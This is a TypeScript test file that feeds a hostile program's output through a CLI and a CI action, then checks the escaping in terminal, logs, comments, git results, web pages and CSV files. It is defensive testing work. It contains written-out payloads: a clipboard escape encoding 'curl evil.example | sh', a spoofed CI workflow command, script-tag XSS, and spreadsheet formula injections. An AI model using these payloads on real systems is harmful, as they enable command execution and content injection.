// A hostile program (test/fixtures/hostile-output) run through the CLI and through the bundled run action
// as the runner runs it; then every place its output lands is checked against its escaping model
// (schemas/README.md, "Where program text lands"): terminal, job log, step summary, pull-request comment,
// results/ (the git tree), the report site and its CSV files.
import { spawnSync } from "node:child_process";
import { cp, lstat, mkdtemp, readdir, readFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import {
  escapeControls,
  isUnsafeCodePoint,
  METRIC_NAME,
  PORTABLE_NAME,
  validateResultDocument,
  type RunResult,
} from "../actions/lib/src/index.js";
import { renderEvaluationComment } from "../actions/lib/src/github/evaluation-comment.js";
import { evaluationPlan } from "./support/plan.js";
import { renderSummary } from "../actions/run/src/summary.js";
import { buildSite } from "./fixtures/site/build-site.js";
import { HOSTILE_TEXTS } from "./support/hostile.js";
import { runAction, type ActionRun } from "./support/action.js";
import { elementCounts, elementNames, renderGfm } from "./support/markdown.js";
import { binDir, cliBin, repoRoot } from "./support/repo.js";
import { interpretRunnerLog } from "./support/runner-log.js";

const EXPERIMENT = "experiments/hostile-output/experiment.yaml";
let root: string;
let cli: { code: number | null; stdout: string; stderr: string; result: RunResult; dir: string };
let action: ActionRun & { result: RunResult; dir: string };

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), "crucible-hostile-"));
  await cp(path.join(repoRoot, "test/fixtures/hostile-output"), path.join(root, "experiments/hostile-output"), { recursive: true });
  const results = path.join(root, "experiments/hostile-output/results");

  const run = spawnSync(path.join(binDir, "node"), [cliBin, "run", EXPERIMENT], { cwd: root, encoding: "utf8", timeout: 300_000 });
  const [cliRun] = await readdir(results);
  const cliDir = path.join(results, cliRun!);
  const cliResult = JSON.parse(await readFile(path.join(cliDir, "result.json"), "utf8")) as RunResult;
  cli = { code: run.status, stdout: run.stdout, stderr: run.stderr, dir: cliDir, result: cliResult };

  const env = {
    GITHUB_WORKSPACE: root,
    GITHUB_RUN_ID: "1313",
    GITHUB_RUN_ATTEMPT: "1",
    GITHUB_JOB: "evaluate",
    GITHUB_SERVER_URL: "https://github.com",
    GITHUB_REPOSITORY: "octo/crucible",
  };
  const ran = await runAction(path.join(repoRoot, "actions/run/dist/index.js"), { inputs: { experiment: EXPERIMENT }, env });
  const dir = path.dirname(path.join(root, ran.outputs["result-path"]!));
  action = { ...ran, dir, result: JSON.parse(await readFile(path.join(dir, "result.json"), "utf8")) };
});

/** Each distinct unsafe character (text.ts) in the text, visibly escaped; `allowed` ones are not counted. */
function unsafeCharacters(text: string, allowed = "\n"): string[] {
  const found = new Set<string>();
  for (const char of text) if (!allowed.includes(char) && isUnsafeCodePoint(char.codePointAt(0)!)) found.add(escapeControls(char));
  return [...found];
}

/** How many elements of a tag the Markdown source writes as literal HTML. */
function literalTags(source: string, tag: string): number {
  return source.match(new RegExp(`<${tag}[\\s>]`, "gi"))?.length ?? 0;
}

/** A result whose every text field a comment or summary shows is hostile, as a version 1 file may hold. */
function hostileCopy(result: RunResult): RunResult {
  return {
    ...result,
    statusReason: HOSTILE_TEXTS.join(" "),
    metrics: Object.fromEntries(HOSTILE_TEXTS.map((t, i) => [t, i])),
    dropped: HOSTILE_TEXTS.map((t) => ({ path: t, reason: t })),
    log: { ...result.log, tail: HOSTILE_TEXTS },
    stages: result.stages?.map((s) => ({ ...s, statusReason: HOSTILE_TEXTS.join(" ") })),
  };
}

describe("the same run, through both adapters", () => {
  it("succeeds and keeps only what is safe: three metrics, one series, portable files", () => {
    for (const { result } of [cli, action]) {
      expect(result.status).toBe("succeeded");
      expect(result.schemaVersion).toBe(2);
      expect(result.metrics).toEqual({ accuracy: 0.93, constructor: 3, described: 7 });
      expect(Object.keys(result.series ?? {})).toEqual(["table"]);
      expect(result.artifacts.map((a) => a.path)).toEqual([
        "stages/emit/output/Case.txt",
        "stages/emit/output/good/inner.txt",
        "stages/emit/output/metrics.json",
        "stages/emit/output/ok-file.txt",
        "stages/emit/output/series.json",
        "stages/oddities/output/data.json",
      ]);
    }
    expect(cli.code).toBe(0);
    expect(action.code).toBe(0);
  });

  it("records everything it did not keep, escaped, with the reason", () => {
    const reasons = Object.fromEntries(cli.result.dropped.map((d) => [d.path, d.reason]));
    expect(reasons["stages/emit/a\\x0a::error::PWN.txt"]).toMatch(/^name is not portable/);
    expect(reasons["stages/emit/rtl\\u{202e}txt.exe"]).toMatch(/^name is not portable/);
    expect(reasons["stages/emit/bad\\x0adir"]).toMatch(/^folder name is not portable/);
    expect(reasons["stages/emit/CON.txt"]).toMatch(/reserved on Windows/);
    expect(reasons["stages/emit/case.txt"]).toBe(
      "differs only in case from Case.txt, which it would overwrite on a case-insensitive file system",
    );
    expect(reasons["stages/emit/metrics.json#</script><script>alert(2)</script>"]).toMatch(/^not a metric name/);
    expect(reasons["stages/emit/metrics.json#a\\x0a# PWN heading"]).toMatch(/^not a metric name/);
    expect(reasons["stages/emit/metrics.json#__proto__"]).toMatch(/^not a metric name/);
    expect(reasons["stages/emit/metrics.json#huge"]).toBe("the value is not a finite number");
    expect(reasons["stages/emit/metrics.json#tty_unit"]).toMatch(/^the unit is not text/);
    expect(reasons["stages/emit/series.json#bad name\\x0a# PWN"]).toMatch(/^not a series name/);
    expect(reasons["stages/emit/series.json#controls"]).toMatch(/^not a valid series: \/controls\/columns\/0/);
    expect(reasons["stages/emit/series.json#infinite"]).toBe("row 0 holds a number that is not finite");
    expect(reasons["stages/oddities/metrics.json"]).toBe('not read and not kept: duplicate key "dup" at line 1, column 12');
    expect(reasons["stages/oddities/series.json"]).toBe("not read and not kept: nesting deeper than 6 levels at line 1, column 15");
  });
});

describe("terminal (the CLI)", () => {
  it("prints no raw control, bidi or invisible character, on stdout or stderr", () => {
    expect(unsafeCharacters(cli.stdout)).toEqual([]);
    expect(unsafeCharacters(cli.stderr)).toEqual([]);
    expect(cli.stdout).toContain("note=\\x0d::error::PWN spoofed");
    expect(cli.stdout).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 \\x1b[2J\\x1b[H \\x9b31m PWN \\u{202e}exe.txt");
  });

  it("prints the metrics on one line and each dropped entry on its own line", () => {
    expect(cli.stdout).toMatch(/^ {4}metrics: accuracy=0\.93 constructor=3 described=7$/m);
    expect(cli.stdout.match(/^ {4}not collected: /gm)).toHaveLength(cli.result.dropped.length);
  });
});

describe("job log (the run action)", () => {
  it("holds no raw control, bidi or invisible character, and no workflow command but the action's own", () => {
    expect(unsafeCharacters(action.stdout)).toEqual([]);
    const { commands, plain } = interpretRunnerLog(action.stdout);
    // The action's own: its groups, the stop token and its annotation that the program printed control text.
    expect(new Set(commands.map((c) => c.name))).toEqual(new Set(["group", "endgroup", "stop-commands", "warning"]));
    expect(commands.filter((c) => c.name === "warning").map((c) => c.properties)).toEqual([
      "title=behaviour%3A output-control (medium%2C injection)",
    ]);
    const progress = /^\[\+\d+\.\d{3}s stdout\] progress 1\/3 \(33%\) · note=\\x0d::error::PWN spoofed clip=\\x1b\]52;c;/;
    expect(plain).toContainEqual(expect.stringMatching(progress));
    expect(plain).toContainEqual(expect.stringMatching(/^\[\+\d+\.\d{3}s stdout\] ::error::PWN after a carriage return$/));
  });

  it("gives the metrics output only safe names", () => {
    const names = Object.keys(JSON.parse(action.outputs.metrics!));
    expect(names).toEqual(["accuracy", "constructor", "described"]);
    for (const name of names) expect(name).toMatch(METRIC_NAME);
  });
});

describe("step summary and pull-request comment, rendered as CommonMark + GFM", () => {
  const summaryTags = ["h2", "h3", "p", "pre", "table", "td", "th", "tr"];

  it("the run's summary holds exactly the elements renderSummary wrote", () => {
    const counts = elementCounts(renderGfm(action.summary));
    for (const [tag, count] of Object.entries(counts)) expect(count, tag).toBe(literalTags(action.summary, tag));
    expect(
      Object.keys(counts).every((tag) => summaryTags.includes(tag)),
      Object.keys(counts).join(),
    ).toBe(true);
    expect(counts.tr).toBeGreaterThan(cli.result.dropped.length);
    // As text, with the zero-width space that keeps GitHub from reading "#…" as an issue reference.
    expect(renderGfm(action.summary).body.textContent).toContain("metrics.json#\u200b</script><script>alert(2)</script>");
  });

  it("a summary whose every value is hostile still holds only its own elements", () => {
    const progress = { step: 1, total: 2, [HOSTILE_TEXTS[0]!]: HOSTILE_TEXTS[1]! };
    const summary = renderSummary(hostileCopy(action.result), "r/result.json", progress);
    const counts = elementCounts(renderGfm(summary));
    for (const [tag, count] of Object.entries(counts)) expect(count, tag).toBe(literalTags(summary, tag));
    expect(
      Object.keys(counts).every((tag) => summaryTags.includes(tag)),
      Object.keys(counts).join(),
    ).toBe(true);
  });

  it("the comment holds the same elements as for a harmless run, and links only to the compare view, the job and the report", () => {
    const plan = evaluationPlan({
      repository: "octo/crucible",
      workflowRunUrl: "https://github.com/octo/crucible/actions/runs/1313",
      reportUrl: "https://example.org/site",
    });
    const comment = (result: RunResult) =>
      renderEvaluationComment({
        kind: "results",
        plan,
        rows: [{ result }],
        dropped: [{ path: result.dropped[0]?.path ?? "x", reason: result.statusReason }],
      });
    const harmless = (r: RunResult): RunResult => ({
      ...r,
      statusReason: "fine",
      dropped: r.dropped.map((d) => ({ ...d, path: "x" })),
      metrics: Object.fromEntries(Object.keys(r.metrics).map((_, i) => [`m${i}`, i])),
    });
    for (const result of [action.result, hostileCopy(action.result)]) {
      const document = renderGfm(comment(result));
      expect(elementNames(document)).toEqual(elementNames(renderGfm(comment(harmless(result)))));
      const links = [...document.querySelectorAll("a")].map((a) => a.getAttribute("href"));
      const report = `https://example.org/site/runs/hostile-output/${result.runId}/`;
      expect(links).toEqual([
        `https://github.com/octo/crucible/compare/${"b".repeat(40)}...${"a".repeat(40)}`,
        "https://github.com/octo/crucible/actions/runs/1313/attempts/1",
        report,
      ]);
    }
  });
});

describe("results/ (what is committed to git)", () => {
  it("holds only folders and regular files with portable names, and text without control characters", async () => {
    for (const { dir } of [cli, action]) {
      for (const relative of await readdir(dir, { recursive: true })) {
        const stats = await lstat(path.join(dir, relative));
        expect(stats.isFile() || stats.isDirectory(), relative).toBe(true);
        for (const name of relative.split("/")) expect(name, relative).toMatch(PORTABLE_NAME);
        if (!/(^|\/)(result\.json|log\.txt)$/.test(relative)) continue;
        expect(unsafeCharacters(await readFile(path.join(dir, relative), "utf8")), relative).toEqual([]);
      }
    }
  });

  it("result.json matches schema version 2, names and text included", () => {
    for (const { result } of [cli, action]) {
      expect(validateResultDocument(result), JSON.stringify(validateResultDocument.errors)).toBe(true);
    }
  });

  it("keeps no JSON file that readers would disagree on", async () => {
    const oddities = await readdir(path.join(cli.dir, "stages/oddities/output"));
    expect(oddities).toEqual(["data.json"]);
  });
});

describe("report site", () => {
  let out: string;
  let pages: { file: string; document: Document }[];

  beforeAll(async () => {
    out = await mkdtemp(path.join(os.tmpdir(), "crucible-hostile-site-"));
    const build = await buildSite(path.join(root, "experiments"), out, { CRUCIBLE_REPO_ROOT: root });
    expect(build.code, build.output).toBe(0);
    const { parseHTML } = await import("linkedom");
    const files = (await readdir(out, { recursive: true })).filter((f) => f.endsWith(".html") && !f.startsWith("pagefind"));
    const parse = async (file: string) => parseHTML(await readFile(path.join(out, file), "utf8")).document as unknown as Document;
    pages = await Promise.all(files.map(async (file) => ({ file, document: await parse(file) })));
  });

  it("builds the runs' pages, which show the hostile text as text", () => {
    const runPages = pages.filter((p) => /^runs\/hostile-output\/[^/]+\/index\.html$/.test(p.file));
    const expected = [cli.result.runId, action.result.runId].sort().map((id) => `runs/hostile-output/${id}/index.html`);
    expect(runPages.map((p) => p.file).sort()).toEqual(expected);
    // Each run's full log has pages of its own (and each stage's): they are checked below with every other page.
    expect(pages.filter((p) => p.file.startsWith("runs/hostile-output/") && p.file.includes("/log")).length).toBeGreaterThanOrEqual(2);
    for (const { document } of runPages) {
      const text = document.body.textContent!;
      expect(text).toContain("metrics.json#</script><script>alert(2)</script>");
      expect(text).toContain("<h1 data-pwn>PWN</h1>");
      expect(text).toContain("[PWN link](https://evil.example/l)");
    }
  });

  it("no page holds an element, attribute, link or script the program wrote", () => {
    for (const { file, document } of pages) {
      const elements = [...document.querySelectorAll("*")];
      expect(
        elements.filter((e) => e.hasAttribute("data-pwn")).map((e) => e.outerHTML),
        file,
      ).toEqual([]);
      const handlers = elements.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`));
      expect(handlers, file).toEqual([]);
      const urls = elements.flatMap((e) => ["href", "src", "action", "xlink:href"].map((a) => e.getAttribute(a) ?? ""));
      const targets = urls.filter((v) => v.includes("evil.example"));
      expect(targets, file).toEqual([]);
      expect([...document.querySelectorAll("script")].filter((s) => /alert\(|PWN/.test(s.textContent!)).length, file).toBe(0);
    }
  });

  it("its CSV files quote separators and defuse formulas in the program's text", async () => {
    const dir = path.join(out, "runs/hostile-output", cli.result.runId);
    const csvFiles = (await readdir(dir)).filter((f) => f.endsWith(".csv"));
    expect(csvFiles).toContain("series-table.csv");
    for (const file of csvFiles) {
      for (const field of parseCsv(await readFile(path.join(dir, file), "utf8"))) {
        if (/^[=+@\t\r]|^-[^0-9]/.test(field)) throw new Error(`${file}: a field starts a formula: ${field}`);
      }
    }
    const series = parseCsv(await readFile(path.join(dir, "series-table.csv"), "utf8"));
    expect(series).toContain('\'=HYPERLINK("https://evil.example")');
    expect(series).toContain("'+cmd|' /C calc'!A0");
  });
});

/** Every field of an RFC 4180 document (quoted fields unquoted). */
function parseCsv(text: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i++;
      for (; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') field += text[i++];
        else if (text[i] === '"') break;
        else field += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r" && text[i] !== "\n") field += text[i++];
    }
    fields.push(field);
    if (text[i] === ",") i++;
    else while (text[i] === "\r" || text[i] === "\n") i++;
  }
  return fields;
}
